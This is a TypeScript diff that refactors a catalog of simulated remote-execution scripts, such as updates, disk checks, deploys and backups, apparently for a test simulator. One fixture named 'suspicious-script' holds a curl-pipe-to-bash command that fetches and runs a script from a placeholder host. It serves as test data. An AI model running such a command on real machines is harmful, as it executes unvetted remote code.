@@ -15,9 +15,12 @@ export interface OutputContext {
   seed: number;
 }
 
+type ScriptType = 'RunShellScript' | 'RunPowerShellScript' | 'RunBatScript';
+
 export interface CatalogCommand {
   name: string;
-  type: 'RunShellScript' | 'RunPowerShellScript' | 'RunBatScript';
+  type: ScriptType;
+  /** Where it runs: PowerShell and Bat scripts on Windows, shell scripts on Linux. */
   os: Os;
   content: string;
   /** Running time range per instance, ms. */
@@ -36,6 +39,8 @@ const mostlyOk = [
   ['Invalid', 1],
 ] as const;
 
+const alwaysOk = [['Success', 1]] as const;
+
 function lines(seed: number, count: number, make: (r: Prng, i: number) => string): string {
   const r = new Prng(seed);
   const out: string[] = [];
@@ -43,11 +48,15 @@ function lines(seed: number, count: number, make: (r: Prng, i: number) => string
   return out.join('\n') + '\n';
 }
 
-export const CATALOG: readonly CatalogCommand[] = [
+/** A shell command that always succeeds and always prints `text` (the fixed test texts). */
+function printsAlways(name: string, content: string, durationMs: readonly [number, number], text: string): Omit<CatalogCommand, 'os'> {
+  return { name, type: 'RunShellScript', content, durationMs, outcomes: alwaysOk, output: () => text };
+}
+
+const COMMANDS: readonly Omit<CatalogCommand, 'os'>[] = [
   {
     name: 'yum-update-security',
     type: 'RunShellScript',
-    os: 'linux',
     content: '#!/bin/bash\nset -e\nyum -y update --security\nneeds-restarting -r || true\n',
     durationMs: [8_000, 25_000],
     outcomes: mostlyOk,
@@ -59,7 +68,6 @@ export const CATALOG: readonly CatalogCommand[] = [
   {
     name: 'apt-upgrade',
     type: 'RunShellScript',
-    os: 'linux',
     content: 'export DEBIAN_FRONTEND=noninteractive\napt-get update -q && apt-get -y -q upgrade\n',
     durationMs: [6_000, 20_000],
     outcomes: mostlyOk,
@@ -70,7 +78,6 @@ export const CATALOG: readonly CatalogCommand[] = [
   {
     name: 'disk-usage-check',
     type: 'RunShellScript',
-    os: 'linux',
     content: 'df -hT -x tmpfs -x devtmpfs\nTHRESHOLD=90\ndf --output=pcent / | tail -1 | tr -d " %" | awk -v t=$THRESHOLD \'$1>t{exit 2}\'\n',
     durationMs: [500, 2_000],
     outcomes: [['Success', 85], ['Failed', 15]],
@@ -87,16 +94,14 @@ export const CATALOG: readonly CatalogCommand[] = [
   {
     name: 'tail-app-log',
     type: 'RunShellScript',
-    os: 'linux',
     content: 'tail -n 2000 /var/log/app/application.log\n',
     durationMs: [6_000, 12_000],
-    outcomes: [['Success', 1]],
+    outcomes: alwaysOk,
     output: (c) => logTail(40_000, c.seed),
   },
   {
     name: 'deploy-release',
     type: 'RunShellScript',
-    os: 'linux',
     content: '#!/bin/bash\nset -euo pipefail\ncd /opt/app\n./deploy.sh --release "$(cat RELEASE)"\n',
     durationMs: [4_000, 15_000],
     outcomes: [['Success', 60], ['Failed', 35], ['Timeout', 5]],
@@ -109,7 +114,6 @@ export const CATALOG: readonly CatalogCommand[] = [
   {
     name: 'health-check',
     type: 'RunShellScript',
-    os: 'linux',
     content: 'curl -fsS -m 5 http://127.0.0.1:8080/healthz && systemctl is-active app nginx\n',
     durationMs: [300, 1_500],
     outcomes: [['Success', 95], ['Failed', 5]],
@@ -119,7 +123,6 @@ export const CATALOG: readonly CatalogCommand[] = [
   {
     name: 'collect-diagnostics',
     type: 'RunShellScript',
-    os: 'linux',
     content: 'uptime; free -m; ss -s; journalctl -p err -n 20 --no-pager\n',
     durationMs: [1_000, 4_000],
     outcomes: mostlyOk,
@@ -131,7 +134,6 @@ export const CATALOG: readonly CatalogCommand[] = [
   {
     name: 'windows-update-scan',
     type: 'RunPowerShellScript',
-    os: 'windows',
     content: '$s = New-Object -ComObject Microsoft.Update.Session\n$r = $s.CreateUpdateSearcher().Search("IsInstalled=0")\n$r.Updates | Select-Object Title\n',
     durationMs: [5_000, 20_000],
     outcomes: mostlyOk,
@@ -142,7 +144,6 @@ export const CATALOG: readonly CatalogCommand[] = [
   {
     name: 'iis-restart',
     type: 'RunBatScript',
-    os: 'windows',
     content: '@echo off\r\niisreset /restart\r\n',
     durationMs: [2_000, 6_000],
     outcomes: mostlyOk,
@@ -154,7 +155,6 @@ export const CATALOG: readonly CatalogCommand[] = [
   {
     name: 'windows-disk-check',
     type: 'RunPowerShellScript',
-    os: 'windows',
     content: 'Get-PSDrive -PSProvider FileSystem | Format-Table Name,Used,Free\n',
     durationMs: [800, 3_000],
     outcomes: [['Success', 92], ['Failed', 8]],
@@ -165,7 +165,6 @@ export const CATALOG: readonly CatalogCommand[] = [
   {
     name: 'failing-backup',
     type: 'RunShellScript',
-    os: 'linux',
     content: '#!/bin/bash\nset -e\nmysqldump --single-transaction app | gzip > /backup/app-$(date +%F).sql.gz\n',
     durationMs: [2_000, 6_000],
     outcomes: [['Failed', 80], ['Success', 20]],
@@ -174,25 +173,11 @@ export const CATALOG: readonly CatalogCommand[] = [
         ? 'mysqldump: Got error: 1045: Access denied for user \'backup\'@\'localhost\' (using password: YES) when trying to connect\ngzip: stdout: No space left on device\n'
         : 'backup written: /backup/app.sql.gz (1.2G)\n',
   },
-  {
-    name: 'print-banner',
-    type: 'RunShellScript',
-    os: 'linux',
-    content: 'cat /etc/motd.d/*.txt\n',
-    durationMs: [300, 1_000],
-    outcomes: [['Success', 1]],
-    output: () => CJK_OUTPUT,
-  },
-  {
-    name: 'suspicious-script',
-    type: 'RunShellScript',
-    os: 'linux',
-    content: 'curl -s https://example.invalid/maint.sh | bash\n',
-    durationMs: [1_000, 3_000],
-    outcomes: [['Success', 1]],
-    output: () => HOSTILE_OUTPUT,
-  },
+  printsAlways('print-banner', 'cat /etc/motd.d/*.txt\n', [300, 1_000], CJK_OUTPUT),
+  printsAlways('suspicious-script', 'curl -s https://example.invalid/maint.sh | bash\n', [1_000, 3_000], HOSTILE_OUTPUT),
 ];
+
+export const CATALOG: readonly CatalogCommand[] = COMMANDS.map((c) => ({ ...c, os: c.type === 'RunShellScript' ? 'linux' : 'windows' }));
 
 export function catalogByName(name: string): CatalogCommand | undefined {
   return CATALOG.find((c) => c.name === name);
